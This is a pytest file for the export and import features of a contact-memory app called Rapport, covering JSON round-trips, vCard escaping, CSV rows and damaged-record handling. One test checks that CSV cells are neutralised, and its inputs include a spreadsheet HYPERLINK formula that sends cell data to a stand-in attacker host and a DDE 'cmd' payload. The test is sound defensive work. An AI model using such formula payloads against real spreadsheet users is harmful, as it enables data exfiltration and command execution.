from __future__ import annotations

import csv
import io
import json

import pytest
from memory_helpers import open_store

from companion.errors import InvalidInput
from companion.memory.exporters import export_as, export_data, vcard_of
from companion.memory.importers import import_path


def _without_stamp(data: dict) -> dict:
    return {k: v for k, v in data.items() if k != "exported_at"}


def test_json_export_reimports_into_an_empty_data_dir_with_nothing_lost(world, tmp_path):
    store, _ = world
    exported = tmp_path / "rapport.json"
    exported.write_text(export_as(store, "json"), encoding="utf-8")
    fresh = open_store(tmp_path / "fresh")
    try:
        summary = import_path(fresh, exported)
        assert summary.added == store.count_people() and summary.merged == 0 and summary.skipped == 0
        assert _without_stamp(export_data(fresh)) == _without_stamp(export_data(store))
        assert {d["id"]: d for d in fresh.people()} == {d["id"]: d for d in store.people()}
    finally:
        fresh.close()


def test_json_export_imported_twice_changes_nothing(world, tmp_path):
    store, _ = world
    before = _without_stamp(export_data(store))
    exported = tmp_path / "rapport.json"
    exported.write_text(export_as(store, "json"), encoding="utf-8")
    summary = import_path(store, exported)
    assert (summary.added, summary.merged) == (0, 0)
    assert _without_stamp(export_data(store)) == before


def test_json_import_into_a_used_data_dir_merges_and_renumbers(world, tmp_path, data_dir):
    from companion.memory.notes import add_note

    store, people = world
    exported = tmp_path / "rapport.json"
    exported.write_text(export_as(store, "json"), encoding="utf-8")
    other = open_store(tmp_path / "other")
    try:
        from memory_helpers import capture

        mine = capture(other, "Jane Quillfeather", "jane-quillfeather")
        own = add_note(other, mine["id"], "my own note")
        summary = import_path(other, exported)
        assert summary.merged == 1
        jane = other.get_person(mine["id"])
        texts = [n["text"] for n in jane["notes"]]
        assert texts[0] == "my own note" and "Met at PyCon; loves sourdough.\nTwo kids." in texts
        ids = [n["id"] for d in other.people() for n in d["notes"]]
        assert len(ids) == len(set(ids)) and own.id in ids
        assert len(jane["interactions"]) == len(people["jane"]["interactions"])
    finally:
        other.close()


def test_vcard_keeps_every_url_and_escapes_text(world):
    _, people = world
    card = vcard_of(people["jane"])
    assert card.startswith("BEGIN:VCARD\r\nVERSION:4.0\r\n") and card.endswith("END:VCARD\r\n")
    unfolded = card.replace("\r\n ", "")
    urls = [line.split(":", 1)[1] for line in unfolded.split("\r\n") if line.startswith("URL")]
    assert urls == ["https://www.linkedin.com/in/jane-quillfeather", "https://janeq.example.com",
                    "https://blog.janeq.example.com", "https://x.com/janequill"]
    assert "ORG:Stripe\\, Inc." in unfolded
    assert "NOTE:Met at PyCon\\; loves sourdough.\\nTwo kids." in unfolded
    assert "CATEGORIES:pycon,payments" in unfolded
    assert all(len(line.encode()) <= 75 for line in card.split("\r\n"))


def test_vcard_file_has_one_card_per_person(world):
    store, _ = world
    text = export_as(store, "vcard")
    assert text.count("BEGIN:VCARD") == store.count_people() == text.count("END:VCARD")


def test_csv_has_a_row_per_person_with_urls_notes_and_tie(world):
    store, people = world
    rows = list(csv.DictReader(io.StringIO(export_as(store, "csv"))))
    assert len(rows) == store.count_people()
    jane = next(r for r in rows if r["id"] == people["jane"]["id"])
    assert jane["name"] == "Jane Quillfeather" and jane["company"] == "Stripe, Inc."
    assert "https://x.com/janequill" in jane["urls"] and "sourdough" in jane["notes"]
    from companion.memory.tie_strength import tie_of

    tie = tie_of(store.get_person(people["jane"]["id"]), None, store.get_setting("tie_weights"))
    assert jane["circle"] == "close" and float(jane["strength"]) == tie.strength > 0 and jane["stage"] == tie.stage
    assert "I'll send you the article by Friday." in jane["open_commitments"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])  # a leading tab or CR never survives the Profile
def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(store, start):
    from memory_helpers import capture

    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
    capture(store, formula, "formula-person", company=f"{start}cmd|'/C calc'!A0", headline=f"{start}1+1")
    row = next(csv.DictReader(io.StringIO(export_as(store, "csv"))))
    for column in ("name", "company", "headline"):
        assert row[column].startswith("'" + start), (column, row[column])
    assert row["name"] == "'" + formula  # nothing else changed: the apostrophe is all a spreadsheet hides


def test_export_holds_settings_and_loose_promises(world):
    store, _ = world
    data = json.loads(export_as(store, "json"))
    assert data["format"] == "rapport-export"
    assert data["settings"]["tie_weights"] == {"channels": {"like": 0.01}}
    assert [c["text"] for c in data["settings"]["commitments"]] == ["Let me introduce you to Jane Quillfeather next week."]


def test_unknown_format_and_foreign_json_are_refused(world, tmp_path):
    store, _ = world
    with pytest.raises(InvalidInput, match="json, csv, vcard"):
        export_as(store, "xml")
    other = tmp_path / "other.json"
    other.write_text('{"hello": 1}')
    with pytest.raises(InvalidInput, match="not a Rapport export"):
        import_path(store, other)


def test_a_damaged_record_in_a_json_export_is_named_and_nothing_is_imported(world, tmp_path):
    store, _ = world
    data = json.loads(export_as(store, "json"))
    data["people"][3]["interactions"] = [{"id": 1, "kind": "telepathy", "at": "2026-01-01"}]
    path = tmp_path / "bad.json"
    path.write_text(json.dumps(data))
    fresh = open_store(tmp_path / "fresh")
    try:
        with pytest.raises(InvalidInput, match=r"Person 4 \(p-[0-9a-f]+\) in bad.json: one of its interactions is damaged"):
            import_path(fresh, path)
        assert fresh.count_people() == 0
    finally:
        fresh.close()
